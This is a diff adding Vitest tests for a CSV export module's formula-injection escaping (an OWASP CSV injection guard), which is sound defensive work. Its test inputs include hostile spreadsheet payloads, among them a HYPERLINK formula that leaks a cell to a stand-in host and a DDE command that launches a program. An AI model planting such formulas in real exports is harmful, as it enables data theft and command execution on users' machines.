@@ -1,6 +1,6 @@
 import { parseCsv as parse } from '../helpers/csv.js';
 import { describe, expect, it } from 'vitest';
-import { csvFormatter, csvHeaderLine, csvRow } from '../../shared/events/csv.js';
+import { csvFormatter, csvHeaderLine, csvRow, formulaSafe } from '../../shared/events/csv.js';
 import { csvDate, daysBefore, isCalendarDay, utcDay } from '../../shared/events/days.js';
 import { eventColumns, eventNames } from '../../shared/events/types.js';
 import { EventFileParamsSchema } from '../../shared/events/schemas.js';
@@ -48,6 +48,21 @@ describe('event CSV rules', () => {
         '2026-01-02 03:04:06,b@x.io,,,,soft,plain\r\n',
     );
     expect((await parse(text)).slice(1)).toEqual([tricky, ['2026-01-02 03:04:06', 'b@x.io', '', '', '', 'soft', 'plain']]);
+  });
+});
+
+describe('formula-safe cells (OWASP CSV injection)', () => {
+  it('prefixes an apostrophe to every value a spreadsheet would evaluate, and to nothing else', () => {
+    for (const dangerous of ['=1+2', '+1+cmd@x.io', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")', "=cmd|' /C calc'!A0"]) {
+      expect(formulaSafe(dangerous)).toBe(`'${dangerous}`);
+    }
+    for (const plain of ['', 'a@x.io', 'https://x.io/?a=1', "o'brien@x.io", ' =1', '1-2', 'x=1']) expect(formulaSafe(plain)).toBe(plain);
+  });
+
+  it('csvRow escapes by default and keeps the recorded values for the raw variant; the date column is ours and never escaped', () => {
+    const record = { date: '2026-03-10T08:00:00.000Z', email: '+1+cmd@x.io', cause: 'READER', email_list_id: 3 };
+    expect(csvRow('nl_unsubscribe', record)).toEqual(['2026-03-10 08:00:00', "'+1+cmd@x.io", 'READER', '3']);
+    expect(csvRow('nl_unsubscribe', record, 'raw')).toEqual(['2026-03-10 08:00:00', '+1+cmd@x.io', 'READER', '3']);
   });
 });
 
